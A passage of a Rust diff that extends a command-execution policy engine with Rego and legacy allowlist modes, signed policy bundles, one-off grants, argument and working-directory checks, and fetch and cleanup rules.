+fn parse_domains(value: &serde_json::Value) -> Result<BTreeSet<String>, String> {
+    let entries = value
+        .as_array()
+        .ok_or_else(|| format!("{REGO_DOMAINS_QUERY} must be a list of domain names"))?;
+    entries
+        .iter()
+        .map(|entry| {
+            entry
+                .as_str()
+                .map(str::to_ascii_lowercase)
+                .filter(|domain| is_squid_domain(domain))
+                .ok_or_else(|| format!("{REGO_DOMAINS_QUERY} has invalid domain {entry}"))
+        })
+        .collect()
+}
+
+/// A `dstdomain` entry squid reads one per line: dot-separated labels of letters, digits and
+/// `-`, with an optional leading `.`.
+fn is_squid_domain(domain: &str) -> bool {
+    let name = domain.strip_prefix('.').unwrap_or(domain);
+    !name.is_empty()
+        && name.len() <= 253
+        && name.split('.').all(|label| {
+            !label.is_empty()
+                && label.len() <= 63
+                && !label.starts_with('-')
+                && !label.ends_with('-')
+                && label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
+        })
+}
+
+/// Accepts a string (a prefix), `{"exact": ...}`, `{"prefix": ...}`, `{"regex": ...}`
+/// or a list of those.
+fn parse_cwd_patterns(
+    value: &serde_json::Value,
+    workspace: Option<&Path>,
+) -> Result<Vec<CwdPattern>, String> {
+    if let Some(entries) = value.as_array() {
+        return entries
+            .iter()
+            .map(|entry| parse_cwd_pattern(entry, workspace))
+            .collect();
+    }
+    parse_cwd_pattern(value, workspace).map(|pattern| vec![pattern])
+}
+
+fn parse_cwd_pattern(
+    value: &serde_json::Value,
+    workspace: Option<&Path>,
+) -> Result<CwdPattern, String> {
+    let (kind, template) = match value {
+        serde_json::Value::String(template) => ("prefix", template.as_str()),
+        serde_json::Value::Object(object) if object.len() == 1 => {
+            let (kind, template) = object.iter().next().expect("one entry");
+            let template = template
+                .as_str()
+                .ok_or_else(|| format!("{REGO_CWD_PATTERN_QUERY}.{kind} must be a string"))?;
+            (kind.as_str(), template)
+        }
+        _ => {
+            return Err(format!(
+                "{REGO_CWD_PATTERN_QUERY} entries must be strings or {{\"exact\"|\"prefix\"|\"regex\": string}}"
+            ));
+        }
+    };
+    let needs_workspace = template.contains(WORKSPACE_VARIABLE);
+    let workspace = match workspace {
+        Some(workspace) => workspace.to_string_lossy().into_owned(),
+        None if needs_workspace => {
+            return Err(format!(
+                "{REGO_CWD_PATTERN_QUERY} uses {WORKSPACE_VARIABLE} but no workspace is configured"
+            ));
+        }
+        None => String::new(),
+    };
+    match kind {
+        "exact" | "prefix" => {
+            let path = PathBuf::from(template.replace(WORKSPACE_VARIABLE, &workspace));
+            if !path.is_absolute() {
+                return Err(format!(
+                    "{REGO_CWD_PATTERN_QUERY} {kind} '{}' is not absolute",
+                    path.display()
+                ));
+            }
+            let path = normalize_lexically(&path);
+            Ok(if kind == "exact" {
+                CwdPattern::Exact(path)
+            } else {
+                CwdPattern::Prefix(path)
+            })
+        }
+        "regex" => {
+            let pattern = template.replace(WORKSPACE_VARIABLE, &regex::escape(&workspace));
+            anchored_regex(&pattern)
+                .map_err(|error| format!("{REGO_CWD_PATTERN_QUERY} regex is invalid: {error}"))?;
+            Ok(CwdPattern::Regex(pattern))
+        }
+        _ => Err(format!(
+            "{REGO_CWD_PATTERN_QUERY} has unknown key '{kind}' (expected exact, prefix or regex)"
+        )),
+    }
+}
+
+/// Accepts `{"root": string, "position": integer, "required": bool}`, `required` optional,
+/// or a list of those.
+fn parse_path_args(
+    value: &serde_json::Value,
+    workspace: Option<&Path>,
+) -> Result<Vec<PathArgRule>, String> {
+    match value {
+        serde_json::Value::Array(entries) => entries
+            .iter()
+            .map(|entry| parse_path_arg(entry, workspace))
+            .collect(),
+        entry => parse_path_arg(entry, workspace).map(|rule| vec![rule]),
+    }
+}
+
+fn parse_path_arg(
+    value: &serde_json::Value,
+    workspace: Option<&Path>,
+) -> Result<PathArgRule, String> {
+    let object = value
+        .as_object()
+        .ok_or_else(|| format!("{REGO_PATH_ARGS_QUERY} entries must be objects"))?;
+    if let Some(key) = object
+        .keys()
+        .find(|key| !matches!(key.as_str(), "root" | "position" | "required"))
+    {
+        return Err(format!(
+            "{REGO_PATH_ARGS_QUERY} has unknown key '{key}' (expected root, position or required)"
+        ));
+    }
+    let template = object
+        .get("root")
+        .and_then(serde_json::Value::as_str)
+        .ok_or_else(|| format!("{REGO_PATH_ARGS_QUERY}.root must be a string"))?;
+    let position = object
+        .get("position")
+        .and_then(serde_json::Value::as_u64)
+        .and_then(|position| usize::try_from(position).ok())
+        .ok_or_else(|| format!("{REGO_PATH_ARGS_QUERY}.position must be a non-negative integer"))?;
+    let required = match object.get("required") {
+        None => false,
+        Some(serde_json::Value::Bool(required)) => *required,
+        Some(_) => return Err(format!("{REGO_PATH_ARGS_QUERY}.required must be a boolean")),
+    };
+    let root = match workspace {
+        Some(workspace) => {
+            PathBuf::from(template.replace(WORKSPACE_VARIABLE, &workspace.to_string_lossy()))
+        }
+        None if template.contains(WORKSPACE_VARIABLE) => {
+            return Err(format!(
+                "{REGO_PATH_ARGS_QUERY} uses {WORKSPACE_VARIABLE} but no workspace is configured"
+            ));
+        }
+        None => PathBuf::from(template),
+    };
+    if !root.is_absolute() {
+        return Err(format!(
+            "{REGO_PATH_ARGS_QUERY} root '{}' is not absolute",
+            root.display()
+        ));
+    }
+    Ok(PathArgRule {
+        root: normalize_lexically(&root),
+        position,
+        required,
+    })
+}
+
+/// Accepts `{"paths": string or [string], "olderThan": "<n>s|m|h|d"}` or a list of those.
+fn parse_cleanup_rules(
+    value: &serde_json::Value,
+    workspace: Option<&Path>,
+) -> Result<Vec<CleanupRule>, String> {
+    match value {
+        serde_json::Value::Array(entries) => entries
+            .iter()
+            .map(|entry| parse_cleanup_rule(entry, workspace))
+            .collect(),
+        entry => parse_cleanup_rule(entry, workspace).map(|rule| vec![rule]),
+    }
+}
+
+fn parse_cleanup_rule(
+    value: &serde_json::Value,
+    workspace: Option<&Path>,
+) -> Result<CleanupRule, String> {
+    let object = value
+        .as_object()
+        .ok_or_else(|| format!("{REGO_CLEANUP_QUERY} entries must be objects"))?;
+    if let Some(key) = object
+        .keys()
+        .find(|key| !matches!(key.as_str(), "paths" | "olderThan"))
+    {
+        return Err(format!(
+            "{REGO_CLEANUP_QUERY} has unknown key '{key}' (expected paths or olderThan)"
+        ));
+    }
+    let templates: Vec<&str> = match object.get("paths") {
+        Some(serde_json::Value::String(path)) => vec![path.as_str()],
+        Some(serde_json::Value::Array(paths)) => paths
+            .iter()
+            .map(|path| path.as_str())
+            .collect::<Option<_>>()
+            .ok_or_else(|| format!("{REGO_CLEANUP_QUERY}.paths must be strings"))?,
+        _ => return Err(format!("{REGO_CLEANUP_QUERY}.paths must be a string or a list")),
+    };
+    let mut paths = Vec::with_capacity(templates.len());
+    for template in templates {
+        let path = match workspace {
+            // Escaped so glob characters in the workspace path match literally.
+            Some(workspace) => template.replace(
+                WORKSPACE_VARIABLE,
+                &globset::escape(&workspace.to_string_lossy()),
+            ),
+            None if template.contains(WORKSPACE_VARIABLE) => {
+                return Err(format!(
+                    "{REGO_CLEANUP_QUERY} uses {WORKSPACE_VARIABLE} but no workspace is configured"
+                ));
+            }
+            None => template.to_string(),
+        };
+        if !path.starts_with('/') {
+            return Err(format!("{REGO_CLEANUP_QUERY} path '{path}' is not absolute"));
+        }
+        if Path::new(&path).components().any(|part| part == Component::ParentDir) {
+            return Err(format!("{REGO_CLEANUP_QUERY} path '{path}' contains '..'"));
+        }
+        let matcher = globset::GlobBuilder::new(&path)
+            .literal_separator(true)
+            .build()
+            .map_err(|error| format!("{REGO_CLEANUP_QUERY} path '{path}' is invalid: {error}"))?
+            .compile_matcher();
+        if matcher.is_match("/") || workspace.is_some_and(|workspace| matcher.is_match(workspace)) {
+            return Err(format!(
+                "{REGO_CLEANUP_QUERY} path '{path}' would remove the workspace itself"
+            ));
+        }
+        paths.push(path);
     }
+    let older_than = object
+        .get("olderThan")
+        .and_then(serde_json::Value::as_str)
+        .and_then(parse_age)
+        .ok_or_else(|| {
+            format!("{REGO_CLEANUP_QUERY}.olderThan must be a duration like \"30m\", \"12h\" or \"7d\"")
+        })?;
+    Ok(CleanupRule { paths, older_than })
+}
+
+/// `"<n>s"`, `"<n>m"`, `"<n>h"` or `"<n>d"` with `n` above zero.
+fn parse_age(value: &str) -> Option<Duration> {
+    let unit_secs = match value.chars().last()? {
+        's' => 1,
+        'm' => 60,
+        'h' => 3600,
+        'd' => 86_400,
+        _ => return None,
+    };
+    let count: u64 = value[..value.len() - 1].parse().ok().filter(|count| *count > 0)?;
+    Some(Duration::from_secs(count.checked_mul(unit_secs)?))
 }
 
 #[derive(Debug, Clone)]
 struct PolicySnapshot {
     mode: PolicyMode,
     rego: Option<RegoPolicy>,
+    /// Set in `both` mode only.
+    legacy: Option<Arc<LegacyAllowlist>>,
     deny_reason: Option<String>,
 }
 
@@ -66,6 +1160,7 @@ impl PolicySnapshot {
         Self {
             mode: PolicyMode::DenyAll,
             rego: None,
+            legacy: None,
             deny_reason: Some(details.into()),
         }
     }
@@ -74,6 +1169,16 @@ impl PolicySnapshot {
         Self {
             mode: PolicyMode::Rego,
             rego: Some(policy),
+            legacy: None,
+            deny_reason: None,
+        }
+    }
+
+    fn both(policy: RegoPolicy, legacy: LegacyAllowlist) -> Self {
+        Self {
+            mode: PolicyMode::Both,
+            rego: Some(policy),
+            legacy: Some(Arc::new(legacy)),
             deny_reason: None,
         }
     }
@@ -82,6 +1187,11 @@ impl PolicySnapshot {
 #[derive(Debug, Clone)]
 struct PolicySources {
     policy_dir: Option<PathBuf>,
+    /// Legacy JSON allowlist enforced next to Rego; set only in `both` mode.
+    legacy_policy_file: Option<PathBuf>,
+    hasher: Arc<dyn FileHasher>,
+    /// Key `bundle.sig` must verify with before `policy_dir` is loaded.
+    signing_key: Option<PolicySigningKey>,
 }
 
 #[derive(Debug)]
@@ -89,6 +1199,19 @@ pub struct PolicyEngine {
     state: Arc<RwLock<PolicySnapshot>>,
     sources: PolicySources,
     watcher_started: AtomicBool,
+    /// Value of `{workspace}` in `cwd_pattern` rules.
+    workspace: Option<PathBuf>,
+    /// Time that `validity` rules are checked against.
+    clock: Arc<dyn Clock>,
+    /// One-off exceptions created by `/admin/grants`, checked before the policy.
+    grants: GrantRegistry,
+    /// Checked before grants and the policy.
+    arg_limits: ArgLimits,
+    /// Binaries commands may not run, so they cannot call back into the server; `None` when
+    /// self-invocation is allowed.
+    own_binaries: Option<OwnBinaries>,
+    /// How much of a denial [`PolicyEngine::denial_message`] gives clients.
+    denial_detail: DenialDetail,
 }
 
 #[derive(Debug)]
@@ -98,19 +1221,60 @@ struct PolicyEvaluationInput<'a> {
     hash: &'a str,
     args: &'a [String],
     env: &'a BTreeMap<String, String>,
+    context: &'a InvocationContext,
+    workspace: Option<&'a Path>,
 }
 
 impl PolicyEngine {
     pub fn from_sources(policy_dir: Option<PathBuf>) -> Self {
-        let sources = PolicySources { policy_dir };
+        Self::from_policy_sources(PolicySources {
+            policy_dir,
+            legacy_policy_file: None,
+            hasher: Arc::new(FsHasher),
+            signing_key: None,
+        })
+    }
+
+    /// Like [`PolicyEngine::from_sources`], in `both` mode: an invocation must also be allowed
+    /// by the legacy JSON command rules in `legacy_policy_file`. Failing to load either falls
+    /// back to deny-all.
+    pub fn from_sources_with_legacy(
+        policy_dir: Option<PathBuf>,
+        legacy_policy_file: PathBuf,
+    ) -> Self {
+        Self::from_policy_sources(PolicySources {
+            policy_dir,
+            legacy_policy_file: Some(legacy_policy_file),
+            hasher: Arc::new(FsHasher),
+            signing_key: None,
+        })
+    }
+
+    /// Like [`PolicyEngine::from_sources`], or [`PolicyEngine::from_sources_with_legacy`] with
+    /// a `legacy_policy_file`, but every load and reload first checks `bundle.sig` against
+    /// `signing_key`. An unsigned or altered directory falls back to deny-all.
+    pub fn from_signed_sources(
+        policy_dir: Option<PathBuf>,
+        legacy_policy_file: Option<PathBuf>,
+        signing_key: PolicySigningKey,
+    ) -> Self {
+        Self::from_policy_sources(PolicySources {
+            policy_dir,
+            legacy_policy_file,
+            hasher: Arc::new(FsHasher),
+            signing_key: Some(signing_key),
+        })
+    }
 
+    fn from_policy_sources(sources: PolicySources) -> Self {
         let snapshot = match load_policy_snapshot(&sources) {
             Ok(snapshot) => {
                 if let Some(rego) = &snapshot.rego {
                     tracing::info!(
-                        mode = "rego",
+                        mode = snapshot.mode.as_str(),
                         query = REGO_ALLOW_QUERY,
                         modules = rego.module_count,
+                        data_documents = rego.data_count,
                         "policy engine initialized",
                     );
                 }
@@ -126,20 +1290,131 @@ impl PolicyEngine {
             state: Arc::new(RwLock::new(snapshot)),
             sources,
             watcher_started: AtomicBool::new(false),
+            workspace: None,
+            clock: Arc::new(SystemClock),
+            grants: GrantRegistry::default(),
+            arg_limits: ArgLimits::default(),
+            own_binaries: Some(OwnBinaries::detect()),
+            denial_detail: DenialDetail::default(),
         }
     }
 
-    #[cfg(test)]
-    pub fn from_rego_for_tests(modules: &[(&str, &str)]) -> Self {
-        let rego = load_rego_modules(modules).expect("failed to load Rego test modules");
-        Self {
+    /// Loads `policy_dir` without the deny-all fallback used by `from_sources`.
+    pub(crate) fn try_from_dir(policy_dir: PathBuf) -> Result<Self, String> {
+        let sources = PolicySources {
+            policy_dir: Some(policy_dir),
+            legacy_policy_file: None,
+            hasher: Arc::new(FsHasher),
+            signing_key: None,
+        };
+        let snapshot = load_policy_snapshot(&sources)?;
+        Ok(Self {
+            state: Arc::new(RwLock::new(snapshot)),
+            sources,
+            watcher_started: AtomicBool::new(false),
+            workspace: None,
+            clock: Arc::new(SystemClock),
+            grants: GrantRegistry::default(),
+            arg_limits: ArgLimits::default(),
+            own_binaries: Some(OwnBinaries::detect()),
+            denial_detail: DenialDetail::default(),
+        })
+    }
+
+    /// Compiles in-memory `(name, source)` modules whose `file_hash` calls go to `hasher`, so
+    /// the engine never reads policy or hashed files from disk.
+    pub fn from_modules(
+        modules: &[(&str, &str)],
+        hasher: Arc<dyn FileHasher>,
+    ) -> Result<Self, String> {
+        let rego = load_rego_modules(modules, &hasher)?;
+        Ok(Self {
             state: Arc::new(RwLock::new(PolicySnapshot::from_rego(rego))),
-            sources: PolicySources { policy_dir: None },
+            sources: PolicySources {
+                policy_dir: None,
+                legacy_policy_file: None,
+                hasher,
+                signing_key: None,
+            },
             watcher_started: AtomicBool::new(false),
-        }
+            workspace: None,
+            clock: Arc::new(SystemClock),
+            grants: GrantRegistry::default(),
+            arg_limits: ArgLimits::default(),
+            own_binaries: Some(OwnBinaries::detect()),
+            denial_detail: DenialDetail::default(),
+        })
     }
 
-    pub fn mode(&self) -> PolicyMode {
+    #[cfg(test)]
+    pub fn from_rego_for_tests(modules: &[(&str, &str)]) -> Self {
+        Self::from_modules(modules, Arc::new(FsHasher)).expect("failed to load Rego test modules")
+    }
+
+    /// Sets the directory `{workspace}` stands for in `cwd_pattern` rules.
+    pub fn with_workspace(mut self, workspace: PathBuf) -> Self {
+        self.workspace = Some(workspace);
+        self
+    }
+
+    /// Sets the argument limits every invocation is checked against.
+    pub fn with_arg_limits(mut self, arg_limits: ArgLimits) -> Self {
+        self.arg_limits = arg_limits;
+        self
+    }
+
+    /// Checks `args` against the engine's [`ArgLimits`]. Done by every evaluation, and by the
+    /// executor before a grant can skip the policy.
+    pub fn check_arg_limits(&self, command: &str, args: &[String]) -> Result<(), ValidationError> {
+        self.arg_limits.check(command, args)
+    }
+
+    /// Lets commands run the server's own binaries, which are denied by default.
+    pub fn with_self_invocation_allowed(mut self, allowed: bool) -> Self {
+        self.own_binaries = (!allowed).then(OwnBinaries::detect);
+        self
+    }
+
+    /// Sets how much of a denial clients are told.
+    pub fn with_denial_detail(mut self, denial_detail: DenialDetail) -> Self {
+        self.denial_detail = denial_detail;
+        self
+    }
+
+    pub fn denial_detail(&self) -> DenialDetail {
+        self.denial_detail
+    }
+
+    /// `error` as a client is told it, at the engine's [`DenialDetail`].
+    pub fn denial_message(&self, error: &ValidationError) -> String {
+        error.client_message(self.denial_detail)
+    }
+
+    #[cfg(test)]
+    pub fn with_own_binaries(mut self, own_binaries: OwnBinaries) -> Self {
+        self.own_binaries = Some(own_binaries);
+        self
+    }
+
+    /// Denies `path` when it resolves to one of the server's own binaries. Done by every
+    /// evaluation, and by the executor before a grant can skip the policy.
+    pub fn check_self_invocation(&self, command: &str, path: &str) -> Result<(), ValidationError> {
+        match &self.own_binaries {
+            Some(own) if own.contains(Path::new(path)) => Err(ValidationError::SelfInvocation {
+                command: command.to_string(),
+                path: path.to_string(),
+            }),
+            _ => Ok(()),
+        }
+    }
+
+    /// Sets where `validity` rules get the current time.
+    pub fn with_clock(mut self, clock: Arc<dyn Clock>) -> Self {
+        self.clock = clock;
+        self
+    }
+
+    pub fn mode(&self) -> PolicyMode {
         self.state
             .read()
             .expect("policy state read lock poisoned")
@@ -155,6 +1430,42 @@ impl PolicyEngine {
         args: &[String],
         env: &BTreeMap<String, String>,
     ) -> Result<(), ValidationError> {
+        self.evaluate_invocation(command, path, hash, args, env)
+            .map(|_| ())
+    }
+
+    /// Like [`PolicyEngine::validate_invocation`], but also returns what the policy attached
+    /// to the allow (such as output limits).
+    pub fn evaluate_invocation(
+        &self,
+        command: &str,
+        path: &str,
+        hash: &str,
+        args: &[String],
+        env: &BTreeMap<String, String>,
+    ) -> Result<PolicyDecision, ValidationError> {
+        self.evaluate_invocation_in_context(
+            command,
+            path,
+            hash,
+            args,
+            env,
+            &InvocationContext::default(),
+        )
+    }
+
+    /// Evaluates the invocation with the caller's identity available as `input.context`.
+    pub fn evaluate_invocation_in_context(
+        &self,
+        command: &str,
+        path: &str,
+        hash: &str,
+        args: &[String],
+        env: &BTreeMap<String, String>,
+        context: &InvocationContext,
+    ) -> Result<PolicyDecision, ValidationError> {
+        self.check_arg_limits(command, args)?;
+        self.check_self_invocation(command, path)?;
         let snapshot = self
             .state
             .read()
@@ -167,19 +1478,35 @@ impl PolicyEngine {
             hash,
             args,
             env,
+            context,
+            workspace: self.workspace.as_deref(),
         };
 
         match snapshot.mode {
-            PolicyMode::Rego => {
+            PolicyMode::Rego | PolicyMode::Both => {
                 let rego = snapshot
                     .rego
                     .ok_or_else(|| ValidationError::PolicyUnavailable {
                         details: "internal policy state mismatch".to_string(),
                     })?;
+                let legacy_denied = snapshot.legacy.as_ref().is_some_and(|legacy| {
+                    !legacy.allows(command, args, env, self.sources.hasher.as_ref())
+                });
+                let denied_by = |engine| ValidationError::CommandNotAllowedBy {
+                    engine,
+                    command: command.to_string(),
+                };
 
                 match rego.evaluate(&evaluation_input) {
-                    Ok(true) => Ok(()),
-                    Ok(false) => Err(ValidationError::CommandNotAllowed(command.to_string())),
+                    Ok(Some(_)) if legacy_denied => Err(denied_by("legacy JSON")),
+                    Ok(None) if legacy_denied => Err(denied_by("Rego and legacy JSON")),
+                    Ok(None) if snapshot.legacy.is_some() => Err(denied_by("Rego")),
+                    Ok(Some(decision)) => {
+                        decision.check_validity(command, self.clock.now())?;
+                        decision.check_env(command, env)?;
+                        Ok(decision)
+                    }
+                    Ok(None) => Err(ValidationError::CommandNotAllowed(command.to_string())),
                     Err(details) => Err(ValidationError::PolicyEvaluationFailed {
                         command: command.to_string(),
                         details,
@@ -194,14 +1521,144 @@ impl PolicyEngine {
         }
     }
 
+    /// Validates an invocation whose executable is already resolved to `path` and `hash`: the
+    /// policy decision plus its `cwd_pattern` and `path_args` checks against `context.cwd`,
+    /// and `cwd_pattern` again against `context.canonical_cwd` when it is set.
+    /// Reads the filesystem only to resolve `path_args` arguments; `file_hash` calls go
+    /// through the engine's [`FileHasher`].
+    pub fn authorize_invocation(
+        &self,
+        command: &str,
+        path: &str,
+        hash: &str,
+        args: &[String],
+        env: &BTreeMap<String, String>,
+        context: &InvocationContext,
+    ) -> Result<PolicyDecision, ValidationError> {
+        let decision =
+            self.evaluate_invocation_in_context(command, path, hash, args, env, context)?;
+        match &context.cwd {
+            Some(cwd) => {
+                decision.check_cwd(command, cwd)?;
+                if let Some(canonical_cwd) = &context.canonical_cwd {
+                    decision.check_canonical_cwd(command, canonical_cwd)?;
+                }
+            }
+            // Without a cwd to compare, a policy that restricts it cannot be satisfied.
+            None if !decision.cwd_patterns.is_empty() => {
+                return Err(ValidationError::CwdNotAllowed {
+                    command: command.to_string(),
+                    cwd: "(unset)".to_string(),
+                });
+            }
+            None => {}
+        }
+        decision.check_path_args(command, args, context.cwd.as_deref())?;
+        Ok(decision)
+    }
+
+    /// Holds a one-off allow for `request`, with the engine's clock starting its TTL.
+    pub fn create_grant(&self, request: GrantRequest) -> Result<Grant, GrantError> {
+        self.grants.insert(request, self.clock.now(), &self.mode())
+    }
+
+    /// Unused, unexpired grants, oldest first.
+    pub fn grants(&self) -> Vec<Grant> {
+        self.grants.list(self.clock.now(), &self.mode())
+    }
+
+    /// Drops an unused grant; returns whether it existed.
+    pub fn revoke_grant(&self, grant_id: &str) -> bool {
+        self.grants.revoke(grant_id, &self.mode())
+    }
+
+    /// Consumes a grant matching this exact invocation. A match skips the policy rules, so the
+    /// caller must not consult [`Self::authorize_invocation`]; in deny-all mode nothing matches.
+    pub(crate) fn take_grant(
+        &self,
+        command: &str,
+        args: &[String],
+        env: &BTreeMap<String, String>,
+        context: &InvocationContext,
+    ) -> Option<Grant> {
+        self.grants
+            .take(command, args, env, context, self.clock.now(), &self.mode())
+    }
+
+    /// Asks the policy's `fetch_dir` rule where a download of `url` pinned to `sha256` may be
+    /// stored. The rule sees `input.url`, `input.sha256` and `input.context`.
+    pub fn authorize_fetch(
+        &self,
+        url: &str,
+        sha256: &str,
+        context: &InvocationContext,
+    ) -> Result<PathBuf, ValidationError> {
+        let snapshot = self
+            .state
+            .read()
+            .expect("policy state read lock poisoned")
+            .clone();
+        let Some(rego) = snapshot.rego else {
+            return Err(ValidationError::PolicyUnavailable {
+                details: snapshot.deny_reason.unwrap_or_else(|| {
+                    "policy state is invalid and command execution is denied".to_string()
+                }),
+            });
+        };
+        let input = serde_json::json!({
+            "url": url,
+            "sha256": sha256,
+            "context": context,
+        });
+        match rego.fetch_dir(input, self.workspace.as_deref()) {
+            Ok(Some(dir)) => Ok(dir),
+            Ok(None) => Err(ValidationError::FetchNotAllowed(url.to_string())),
+            Err(details) => Err(ValidationError::FetchEvaluationFailed {
+                url: url.to_string(),
+                details,
+            }),
+        }
+    }
+
+    /// The active policy's `cleanup` rules; none in deny-all mode.
+    pub fn cleanup_rules(&self) -> Result<Vec<CleanupRule>, String> {
+        let snapshot = self
+            .state
+            .read()
+            .expect("policy state read lock poisoned")
+            .clone();
+        match &snapshot.rego {
+            Some(rego) => rego.cleanup_rules(self.workspace.as_deref()),
+            None => Ok(Vec::new()),
+        }
+    }
+
+    /// Lists the packages of the active policy and the commands they are routed from.
+    pub fn summary(&self) -> Result<PolicySummary, String> {
+        let snapshot = self
+            .state
+            .read()
+            .expect("policy state read lock poisoned")
+            .clone();
+        let packages = match &snapshot.rego {
+            Some(rego) => rego.packages()?,
+            None => Vec::new(),
+        };
+        Ok(PolicySummary {
+            policy_mode: snapshot.mode.as_str().to_string(),
+            packages,
+        })
+    }
+
     pub fn reload(&self) {
         match load_policy_snapshot(&self.sources) {
             Ok(snapshot) => {
                 if let Some(rego) = &snapshot.rego {
                     tracing::info!(
-                        mode = "rego",
+                        mode = snapshot.mode.as_str(),
                         query = REGO_ALLOW_QUERY,
                         modules = rego.module_count,
+                        data_documents = rego.data_count,
                         "policy reload succeeded",
                     );
                 }
@@ -229,6 +1686,7 @@ impl PolicyEngine {
             return;
         }
 
+        let legacy_policy_file = self.sources.legacy_policy_file.clone();
         let (reload_signal_tx, mut reload_signal_rx) = tokio::sync::mpsc::unbounded_channel();
         let engine_for_reload = Arc::clone(self);
         tokio::spawn(async move {
@@ -265,6 +1723,19 @@ impl PolicyEngine {
                 return;
             }
 
+            // Editors replace files on save, so the legacy file is watched through its directory.
+            if let Some(legacy_dir) = legacy_policy_file.as_deref().and_then(Path::parent)
+                && let Err(error) = watcher.watch(legacy_dir, RecursiveMode::NonRecursive)
+            {
+                tracing::error!(
+                    error = %error,
+                    legacy_dir = %legacy_dir.display(),
+                    "failed to watch legacy policy directory; deny-all activated",
+                );
+                let _ = reload_signal_tx.send(());
+                return;
+            }
+
             tracing::info!(policy_dir = %policy_dir.display(), "policy watcher started");
 
             while let Ok(event_result) = event_rx.recv() {
@@ -291,14 +1762,67 @@ fn load_policy_snapshot(sources: &PolicySources) -> Result<PolicySnapshot, Strin
         .as_ref()
         .ok_or_else(|| "POLICY_DIR is not configured".to_string())?;
 
-    let rego =
-        load_rego_policy_dir(policy_dir).map_err(|error| format!("rego policy load failed: {error}"))?;
-    Ok(PolicySnapshot::from_rego(rego))
+    let verified = sources
+        .signing_key
+        .as_ref()
+        .map(|key| verify_bundle(policy_dir, key))
+        .transpose()
+        .map_err(|error| format!("rego policy load failed: {error}"))?;
+    let rego = load_rego_policy_dir(
+        policy_dir,
+        sources.legacy_policy_file.as_deref(),
+        &sources.hasher,
+        verified.as_ref(),
+    )
+    .map_err(|error| format!("rego policy load failed: {error}"))?;
+    match &sources.legacy_policy_file {
+        Some(path) => {
+            let legacy = match &verified {
+                Some(bundle) => {
+                    let contents = signed_legacy_source(bundle, path)?;
+                    LegacyAllowlist::parse(path, &contents)
+                }
+                None => LegacyAllowlist::load(path),
+            }
+            .map_err(|error| format!("legacy JSON policy load failed: {error}"))?;
+            Ok(PolicySnapshot::both(rego, legacy))
+        }
+        None => Ok(PolicySnapshot::from_rego(rego)),
+    }
 }
 
-#[cfg(test)]
-fn load_rego_modules(modules: &[(&str, &str)]) -> Result<RegoPolicy, String> {
-    let mut engine = RegoEngine::new();
+/// The verified contents of `legacy_policy_file`, which must be one of the signed files
+/// under the policy directory: a legacy file read from anywhere else would be enforced
+/// without its signature being checked.
+fn signed_legacy_source(
+    bundle: &BTreeMap<PathBuf, Vec<u8>>,
+    legacy_policy_file: &Path,
+) -> Result<String, String> {
+    let legacy = std::fs::canonicalize(legacy_policy_file).ok();
+    let contents = bundle
+        .iter()
+        .find(|(file, _)| legacy.is_some() && std::fs::canonicalize(file).ok() == legacy)
+        .map(|(_, contents)| contents)
+        .ok_or_else(|| {
+            format!(
+                "legacy JSON policy load failed: '{}' is not in the signed bundle; \
+                 keep POLICY_FILE under POLICY_DIR",
+                legacy_policy_file.display()
+            )
+        })?;
+    String::from_utf8(contents.clone()).map_err(|error| {
+        format!(
+            "legacy JSON policy load failed: '{}': {error}",
+            legacy_policy_file.display()
+        )
+    })
+}
+
+fn load_rego_modules(
+    modules: &[(&str, &str)],
+    hasher: &Arc<dyn FileHasher>,
+) -> Result<RegoPolicy, String> {
+    let mut engine = new_rego_engine(hasher);
     for (name, source) in modules {
         engine
             .add_policy((*name).to_string(), (*source).to_string())
@@ -308,12 +1832,34 @@ fn load_rego_modules(modules: &[(&str, &str)]) -> Result<RegoPolicy, String> {
     Ok(RegoPolicy {
         engine,
         module_count: modules.len(),
+        data_count: 0,
     })
 }
 
-fn load_rego_policy_dir(policy_dir: &Path) -> Result<RegoPolicy, String> {
+/// Compiles every module under `policy_dir` and merges its data documents, except
+/// `legacy_policy_file` when it is kept in the same directory. With a `verified` bundle, they
+/// are compiled from the contents `bundle.sig` was checked against.
+fn load_rego_policy_dir(
+    policy_dir: &Path,
+    legacy_policy_file: Option<&Path>,
+    hasher: &Arc<dyn FileHasher>,
+    verified: Option<&BTreeMap<PathBuf, Vec<u8>>>,
+) -> Result<RegoPolicy, String> {
+    let read_source = |file: &Path| match verified {
+        Some(bundle) => {
+            let contents = bundle
+                .get(file)
+                .ok_or_else(|| format!("'{}' is not in the signed bundle", file.display()))?;
+            String::from_utf8(contents.clone())
+                .map_err(|error| format!("failed reading '{}': {error}", file.display()))
+        }
+        None => std::fs::read_to_string(file)
+            .map_err(|error| format!("failed reading '{}': {error}", file.display())),
+    };
+
     let mut files = Vec::new();
-    collect_rego_files(policy_dir, &mut files).map_err(|error| {
+    let mut data_files = Vec::new();
+    collect_policy_files(policy_dir, &mut files, &mut data_files).map_err(|error| {
         format!(
             "failed reading policy directory '{}': {error}",
             policy_dir.display()
@@ -328,35 +1874,121 @@ fn load_rego_policy_dir(policy_dir: &Path) -> Result<RegoPolicy, String> {
     }
 
     files.sort();
+    if let Some(legacy) = legacy_policy_file.and_then(|path| std::fs::canonicalize(path).ok()) {
+        data_files.retain(|file| std::fs::canonicalize(file).ok().as_ref() != Some(&legacy));
+    }
+    data_files.sort();
 
-    let mut engine = RegoEngine::new();
+    let mut engine = new_rego_engine(hasher);
     for file in &files {
-        let source = std::fs::read_to_string(file)
-            .map_err(|error| format!("failed reading '{}': {error}", file.display()))?;
+        let source = read_source(file)?;
 
         engine
             .add_policy(file.to_string_lossy().into_owned(), source)
             .map_err(|error| format!("failed compiling '{}': {error}", file.display()))?;
     }
+    for file in &data_files {
+        let source = read_source(file)?;
+        let document = load_data_document(policy_dir, file, &source)
+            .map_err(|error| format!("failed loading data '{}': {error}", file.display()))?;
+        engine
+            .add_data(document)
+            .map_err(|error| format!("failed merging data '{}': {error}", file.display()))?;
+    }
 
     Ok(RegoPolicy {
         engine,
         module_count: files.len(),
+        data_count: data_files.len(),
     })
 }
 
-fn collect_rego_files(dir: &Path, out: &mut Vec<PathBuf>) -> Result<(), std::io::Error> {
+/// Reads a JSON or YAML data document and nests it under the path of its directory below
+/// `policy_dir`, as OPA bundles do: `registries/data.json` holding `{"npm": [..]}` becomes
+/// `data.registries.npm`.
+fn load_data_document(
+    policy_dir: &Path,
+    file: &Path,
+    source: &str,
+) -> anyhow::Result<regorus::Value> {
+    let mut document = match file.extension().and_then(|ext| ext.to_str()) {
+        Some("json") => regorus::Value::from_json_str(source)?,
